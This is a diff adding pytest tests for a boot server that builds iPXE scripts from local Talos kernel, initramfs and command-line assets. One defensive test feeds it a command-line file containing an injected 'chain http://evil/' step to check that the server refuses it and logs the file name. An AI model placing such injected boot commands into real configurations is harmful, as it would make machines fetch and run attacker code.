@@ -367,3 +367,69 @@ def test_arguments_that_linux_would_cut_are_told_without_quoting_them(
     said = capsys.readouterr().out
     assert "kernel_arguments_long" in said
     assert inline_of(site) and JOIN_TOKEN not in said and "inline=" not in said
+
+
+def fill_assets(folder: Path, arch: str = "amd64", cmdline: str = "talos.platform=metal slab_nomerge\n") -> Path:
+    folder.mkdir()
+    for name, content in (("kernel-{}", "K"), ("initramfs-metal-{}.xz", "I"), ("cmdline-metal-{}", cmdline)):
+        (folder / name.format(arch)).write_text(content)
+    return folder
+
+
+def test_agent_mode_is_booted_from_local_assets_and_no_factory_is_asked(
+    make_site: Callable[..., Site], tmp_path: Path
+) -> None:
+    site = make_site(use_local_boot_assets=True, boot_assets_path=fill_assets(tmp_path / "assets"))
+    site.mirror.machines[MACHINE_ID] = picture(extra_kernel_args="debug")
+    answer = site.boot()
+    assert answer.status_code == 200
+    assert answer.text == (
+        "#!ipxe\nimgfree\n"
+        "kernel http://10.0.0.1:50042/assets/kernel-amd64 talos.platform=metal slab_nomerge "
+        "talos.config=http://10.0.0.1:50042/config?u=${uuid} metal.provider.address=10.0.0.1:50042 "
+        "console=tty0 console=ttyS0 debug\n"
+        "initrd http://10.0.0.1:50042/assets/initramfs-metal-amd64.xz\n"
+        "boot\n"
+    )
+    assert site.factory.asked == []
+    assert site.boots.counted == ["agent-pxe"]
+
+
+def test_every_url_of_a_local_boot_is_served(make_site: Callable[..., Site], tmp_path: Path) -> None:
+    site = make_site(use_local_boot_assets=True, boot_assets_path=fill_assets(tmp_path / "assets", "arm64"))
+    lines = site.boot(arch="arm64").text.splitlines()
+    urls = [word for line in lines for word in line.split()[1:2]]
+    assert len(urls) == 2
+    for url in urls:
+        assert site.get(url.removeprefix("http://10.0.0.1:50042"), "10.0.0.7").status_code == 200
+
+
+def test_architecture_without_local_assets_is_404_in_words_and_logged(
+    make_site: Callable[..., Site], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    site = make_site(use_local_boot_assets=True, boot_assets_path=fill_assets(tmp_path / "assets"))
+    capsys.readouterr()
+    answer = site.boot(arch="arm64")
+    assert answer.status_code == 404
+    assert "no image for arm64: kernel-arm64 is missing" in answer.text
+    assert "boot_not_prepared" in capsys.readouterr().out
+    assert site.boots.noted == []
+
+
+def test_command_line_that_could_add_a_command_is_refused_and_named_in_the_log(
+    make_site: Callable[..., Site], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    folder = fill_assets(tmp_path / "assets", cmdline="a=1 || chain http://evil/")
+    site = make_site(use_local_boot_assets=True, boot_assets_path=folder)
+    answer = site.boot()
+    assert answer.status_code == 500
+    assert "evil" not in answer.text
+    assert "cmdline-metal-amd64" in capsys.readouterr().out
+
+
+def test_talos_is_booted_from_the_factory_also_with_local_assets(
+    make_site: Callable[..., Site], tmp_path: Path
+) -> None:
+    site = make_site(use_local_boot_assets=True, boot_assets_path=fill_assets(tmp_path / "assets"))
+    site.mirror.machines[MACHINE_ID] = picture(cluster_talos_version="1.13.7")
+    assert site.boot().text == f"{CHAIN_BASE}/1.13.7/metal-amd64\n"
